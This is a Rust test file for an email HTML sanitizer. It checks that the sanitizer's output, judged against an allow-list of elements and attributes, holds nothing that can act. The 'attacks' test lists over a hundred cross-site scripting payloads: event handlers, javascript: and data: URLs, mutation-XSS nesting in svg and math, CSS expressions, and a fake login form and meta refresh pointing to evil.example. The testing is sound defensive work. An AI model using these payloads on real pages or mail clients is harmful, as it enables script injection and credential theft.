//! HTML that a page may show: attacks, and what has to survive.

use std::time::{Duration, Instant};

use posthouse_mime::websafe::{Images, MAX_IMAGES, embed_images, web_safe, web_safe_text};
use proptest::prelude::*;

const PNG: &[u8] = b"\x89PNG\r\n\x1a\nimage";

fn clean(html: &str) -> String {
    web_safe(html, Images::default())
}

/// Reads the output by rules of its own and says what in it could act.
fn dangers(html: &str) -> Vec<String> {
    const NAMES: &str = "a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code col \
        colgroup dd del dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li \
        main mark nav ol p pre q rp rt ruby s samp section small span strike strong sub sup table tbody td tfoot th \
        thead time tr tt u ul var";
    const ATTRIBUTES: &str = "align bgcolor dir height lang style title valign width href rel target src alt border \
        hspace vspace color face size cellpadding cellspacing rules colspan rowspan nowrap scope span start type \
        reversed";
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = rest[at + 1..].trim_start_matches('/');
        let end = rest.find(|c: char| !c.is_ascii_alphanumeric());
        let (name, mut tag) = rest.split_at(end.unwrap_or(rest.len()));
        if !NAMES.split_whitespace().any(|known| known == name) {
            found.push(format!("element {name:?}"));
        }
        // Attributes are always name="value" with no quote inside.
        while let Some(attribute) = tag.strip_prefix(' ') {
            let Some((name, value)) = attribute.split_once("=\"") else {
                found.push(format!("attribute {attribute:?}"));
                break;
            };
            let (value, after) = value.split_once('"').unwrap_or((value, ""));
            if !ATTRIBUTES.split_whitespace().any(|known| known == name) {
                found.push(format!("attribute {name:?}"));
            }
            let lower = value.to_ascii_lowercase();
            let begins = |list: &[&str]| list.iter().any(|start| lower.trim().starts_with(start));
            let safe = match name {
                "href" => begins(&["http:", "https:", "mailto:", "tel:"]),
                "src" => {
                    begins(&["http:", "https:", "cid:", "data:image/"]) && !lower.contains("svg")
                }
                "style" => !["url", "expression", "@", "\\", "position", "/*", "<"]
                    .iter()
                    .any(|word| lower.contains(word)),
                _ => true,
            };
            if !safe {
                found.push(format!("{name} {value:?}"));
            }
            tag = after;
        }
        if !tag.starts_with('>') && !tag.starts_with("/>") {
            found.push(format!("tag {tag:?}"));
        }
        rest = tag;
    }
    found
}

#[test]
fn the_judge_sees_dangers() {
    for html in [
        "<script>",
        "<p onclick=\"x\">",
        "<a href=\"javascript:x\">",
        "<img src=\"data:image/svg+xml,x\">",
        "<p style=\"position: fixed\">",
        "<p <b>",
        "<!-- -->",
        "<p title=x>",
    ] {
        assert!(!dangers(html).is_empty(), "{html}");
    }
    assert!(dangers("<p title=\"a\">x<br></p>").is_empty());
}

#[test]
fn attacks() {
    let vectors = [
        "<script>steal()</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>steal()</scr</script>ipt>",
        "<script/x>steal()</script>",
        "<script\n>steal()</script\n>",
        "<<script>steal()//<</script>",
        "<img src=x onerror=steal()>",
        "<img src=x OnErRoR = \"steal()\">",
        "<img/src=x/onerror=steal()>",
        "<img src=\"x\"onerror=\"steal()\">",
        "<img src='x' onerror='steal()' '>",
        "<img \"\"\"><script>steal()</script>\">",
        "<body onload=steal()>x",
        "<p onclick=steal() onmouseover=steal()>x</p>",
        "<div onpointerrawupdate=steal()>x</div>",
        "<a href=\"javascript:steal()\">x</a>",
        "<a href=\"JaVaScRiPt:steal()\">x</a>",
        "<a href=\" javascript:steal()\">x</a>",
        "<a href=\"\u{1}javascript:steal()\">x</a>",
        "<a href=\"java\tscript:steal()\">x</a>",
        "<a href=\"java&#10;script:steal()\">x</a>",
        "<a href=\"&#106;avascript&colon;steal()\">x</a>",
        "<a href=\"&#x6A&#x61vascript:steal()\">x</a>",
        "<a href=\"javascript&NewLine;:steal()\">x</a>",
        "<a href=\"vbscript:steal()\">x</a>",
        "<a href=\"livescript:steal()\">x</a>",
        "<a href=\"data:text/html,<script>steal()</script>\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"blob:https://x/y\">x</a><a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"//evil.example\">x</a><a href=\"/logout\">x</a><a href=\"?x\">x</a>",
        "<img src=\"javascript:steal()\">",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        "<img src=\"data:text/html;base64,PHN2Zz4=\">",
        "<img src=\"data:image/png;x=<svg>;base64,AAAA\">",
        "<img srcset=\"javascript:steal() 1x\" lowsrc=\"javascript:steal()\" dynsrc=x>",
        "<image src=x onerror=steal()>",
        "<input type=image src=x onerror=steal()>",
        "<form action=https://evil.example><input name=password><button>Log in</button></form>",
        "<button formaction=javascript:steal()>x</button>",
        "<isindex type=image src=1 onerror=steal()>",
        "<meta http-equiv=refresh content=\"0;url=javascript:steal()\">",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=\"javascript:steal()//\"><a href=\"x\">x</a>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>",
        "<style>body{background:url(javascript:steal())}</style>",
        "<style><!--</style><script>steal()</script>--></style>",
        "<div style=\"background:url(javascript:steal())\">x</div>",
        "<div style=\"background-image:\\75\\72\\6c('//evil.example')\">x</div>",
        "<div style=\"width:expression(steal())\">x</div>",
        "<div style=\"xss:expr/*XSS*/ession(steal())\">x</div>",
        "<div style=\"position:fixed;inset:0;z-index:99\">log in again</div>",
        "<div style=\"-moz-binding:url(//evil.example/x.xml#a)\">x</div>",
        "<div style='color:red;}*{display:none'>x</div>",
        "<div style=\"behavior:url(#default#time2)\">x</div>",
        "<iframe src=javascript:steal()></iframe>",
        "<iframe srcdoc=\"<script>steal()</script>\"></iframe>",
        "<object data=javascript:steal()></object>",
        "<embed src=javascript:steal()>",
        "<applet code=x></applet>",
        "<frameset><frame src=javascript:steal()></frameset>",
        "<svg onload=steal()>",
        "<svg><script>steal()</script></svg>",
        "<svg><a xlink:href=javascript:steal()><text y=9>x</text></a></svg>",
        "<svg><animate onbegin=steal() attributeName=x dur=1s>",
        "<svg><a><animate attributeName=href values=javascript:steal() /></a></svg>",
        "<svg><foreignObject><script>steal()</script></foreignObject></svg>",
        "<svg><style><img src=x onerror=steal()></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=steal()>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=steal()&gt;\">",
        "<math><maction actiontype=statusline xlink:href=javascript:steal()>x</maction></math>",
        "<math href=javascript:steal()>x</math>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=steal() src>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=steal()>\"></noscript>",
        "<textarea><p title=\"</textarea><img src=x onerror=steal()>\">",
        "<title><p title=\"</title><img src=x onerror=steal()>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=steal()>\">",
        "<noembed><p title=\"</noembed><img src=x onerror=steal()>\">",
        "<select><iframe></select><img src=x onerror=steal()>",
        "<template><script>steal()</script></template>",
        "<video src=x onerror=steal()><source onerror=steal()></video>",
        "<audio src=x onerror=steal()>",
        "<details open ontoggle=steal()>x</details>",
        "<marquee onstart=steal()>x</marquee>",
        "<keygen autofocus onfocus=steal()>",
        "<table background=javascript:steal()><td background=javascript:steal()>x</table>",
        "<!--[if IE]><script>steal()</script><![endif]-->",
        "<!--><img src=x onerror=steal()>-->",
        "<!-- --!><img src=x onerror=steal()>-->",
        "<![CDATA[<img src=x onerror=steal()>]]>",
        "<?xml version=\"1.0\"?><?php <img src=x onerror=steal()>",
        "<div id=cookie name=domain class=modal>x</div>",
        "<a id=location href=https://x>x</a><form name=body><input name=firstChild>",
        "<p title=\"&quot;><img src=x onerror=steal()>\">x</p>",
        "<p title='\"><img src=x onerror=steal()>'>x</p>",
        "<p title=`><img src=x onerror=steal()>`>x</p>",
        "<font color=\"red\" onfocus=steal() tabindex=1 autofocus>x</font>",
        "<a href=https://x target=_self rel=opener ping=https://evil.example download>x</a>",
        "<a href=\"https://x/&quot; onclick=&quot;steal()\">x</a>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">steal()</x:script>",
        "<plaintext><script>steal()</script>",
        "\u{0}<scr\u{0}ipt>steal()</scr\u{0}ipt>",
        "+ADw-script+AD4-steal()+ADw-/script+AD4-",
        "<dialog open>x</dialog><portal src=https://evil.example></portal>",
        "<blockquote cite=javascript:steal()>x</blockquote><q cite=javascript:steal()>x</q>",
    ];
    for vector in vectors {
        let safe = clean(vector);
        assert!(
            dangers(&safe).is_empty(),
            "{vector}\n{safe}\n{:?}",
            dangers(&safe)
        );
        // What a browser makes of it, written out again, is as harmless.
        let again = clean(&safe);
        assert!(dangers(&again).is_empty(), "{vector}\n{again}");
        // As part of a page too.
        let page = clean(&format!(
            "<html><body><table><tr><td>{vector}</td></tr></table>after"
        ));
        assert!(dangers(&page).is_empty(), "{vector}\n{page}");
    }
    assert!(vectors.len() > 100);
}

#[test]
fn what_stays() {
    for (html, expected) in [
        ("<p>a<br>b</p>", "<p>a<br>b</p>"),
        (
            "<a href=\"https://x.org/?a=1&amp;b=2\">x</a>",
            "<a href=\"https://x.org/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>",
        ),
        (
            "<html><head><title>T</title><style>p{}</style></head><body><p>x</p></body></html>",
            "<p>x</p>",
        ),
        (
            "<table border=0 width=\"600\" cellpadding=\"0\"><tr><td bgcolor=\"#fff\" style=\"padding:4px\">x</td></tr></table>",
            "<table border=\"0\" width=\"600\" cellpadding=\"0\"><tbody><tr><td bgcolor=\"#fff\" style=\"padding: 4px;\">x</td></tr></tbody></table>",
        ),
        (
            "<img src=\"https://x.org/a.png\" alt=\"a &lt; b\">",
            "<img src=\"https://x.org/a.png\" alt=\"a &lt; b\">",
        ),
        ("1 < 2 &amp; <o:p>3</o:p>", "1 &lt; 2 &amp; 3"),
        (
            "<center><font color=red>x</font></center>",
            "<center><font color=\"red\">x</font></center>",
        ),
    ] {
        assert_eq!(clean(html), expected, "{html}");
    }
    assert_eq!(
        web_safe_text("a <b> https://x.org\n"),
        "<p>a &lt;b&gt; <a href=\"https://x.org\" target=\"_blank\" rel=\"noopener noreferrer\">https://x.org</a></p>\n"
    );
}

#[test]
fn images_of_the_message() {
    let images = || {
        let mut images = Images::default();
        assert!(images.add("<logo 1@x>", PNG));
        assert!(!images.add("<bad@x>", b"<svg onload=steal()>"));
        images
    };
    let uri = "data:image/png;base64,iVBORw0KGgppbWFnZQ==";
    let html = "<img src=\"cid:logo%201@x\"><img src='CID:logo 1@x'><img src=\"cid:bad@x\"> cid:logo%201@x";
    let safe = web_safe(html, images());
    assert_eq!(
        safe,
        format!("<img src=\"{uri}\"><img src=\"{uri}\"><img src=\"cid:bad@x\"> cid:logo%201@x")
    );
    let html =
        "<td background=cid:logo%201@x onclick=x><img src=\"cid:bad@x\">\u{e4}cid:logo%201@x";
    assert_eq!(
        embed_images(html, &images()),
        html.replacen("cid:logo%201@x", uri, 1)
    );
    // An image that is shown over and over does not multiply without end.
    let mut large = Images::default();
    let mut content = PNG.to_vec();
    content.resize(MAX_IMAGES / 2, 0);
    large.add("a", &content);
    let html = "<img src=\"cid:a\">".repeat(50);
    let embedded = embed_images(&html, &large);
    assert_eq!(embedded.matches("data:").count(), 2);
    let safe = web_safe(&html, large);
    assert_eq!(
        (safe.matches("data:").count(), safe.matches("cid:a").count()),
        (2, 48)
    );
}

#[test]
fn odd_documents_become_their_text() {
    for piece in ["<div>", "<div></x>", "<b><i><u>", "<table><tr><td>"] {
        let html = format!(
            "{}<script>x</script><a href=https://x.org>words https://x.org",
            piece.repeat(20_000)
        );
        let start = Instant::now();
        let safe = clean(&html);
        assert!(start.elapsed() < Duration::from_secs(5), "{piece}");
        assert!(
            dangers(&safe).is_empty() && safe.contains("words"),
            "{piece}"
        );
        assert!(
            safe.contains("rel=\"noopener noreferrer\""),
            "{piece}: {safe}"
        );
    }
    let long = format!("<b>x</b>{}", "y ".repeat(3 << 20));
    assert!(clean(&long).starts_with("<p>x"));
}

#[test]
fn deep_documents_are_not_laid_out() {
    for piece in ["<div></x>", "<div><!--</div>-->", "<b><div></b>"] {
        let html = format!("{}words", piece.repeat(50_000));
        assert!(
            posthouse_mime::html::html_to_text(&html).contains("words"),
            "{piece}"
        );
    }
}

fn pieces() -> impl Strategy<Value = String> {
    const PIECES: [&str; 60] = [
        "<",
        ">",
        "\"",
        "'",
        "`",
        "=",
        "/",
        " ",
        "\n",
        "\t",
        "\0",
        "&",
        "&#",
        "&lt;",
        "&quot;",
        "&#x3c;",
        "<!--",
        "-->",
        "--!>",
        "<![CDATA[",
        "]]>",
        "<?",
        "</",
        "<script",
        "</script>",
        "<style",
        "</style>",
        "<svg",
        "</svg>",
        "<math",
        "<mtext>",
        "<mglyph>",
        "<foreignObject>",
        "<p",
        "<div ",
        "<table>",
        "<td>",
        "<select>",
        "<option>",
        "<a ",
        "<b>",
        "</b>",
        "<img ",
        "<form>",
        "</form>",
        "<noscript>",
        "<textarea>",
        "<title>",
        "<template>",
        "<iframe ",
        " src=",
        " href=",
        " onerror=",
        " style=",
        "javascript:",
        "data:text/html,",
        "https://x",
        "cid:a",
        "url(",
        "expression(",
    ];
    let piece = prop_oneof![
        8 => proptest::sample::select(&PIECES[..]).prop_map(str::to_owned),
        1 => "[a-z:;\u{e4}\u{130}]{1,4}",
    ];
    proptest::collection::vec(piece, 0..60).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(500))]
    #[test]
    fn nothing_can_act(html in pieces()) {
        let safe = clean(&html);
        prop_assert_eq!(dangers(&safe), Vec::<String>::new(), "{}", safe);
        let again = clean(&safe);
        prop_assert_eq!(dangers(&again), Vec::<String>::new(), "{}", again);
        let mut images = Images::default();
        images.add("a", PNG);
        let _ = embed_images(&html, &images);
        let safe = web_safe(&html, images);
        prop_assert_eq!(dangers(&safe), Vec::<String>::new(), "{}", safe);
    }
}
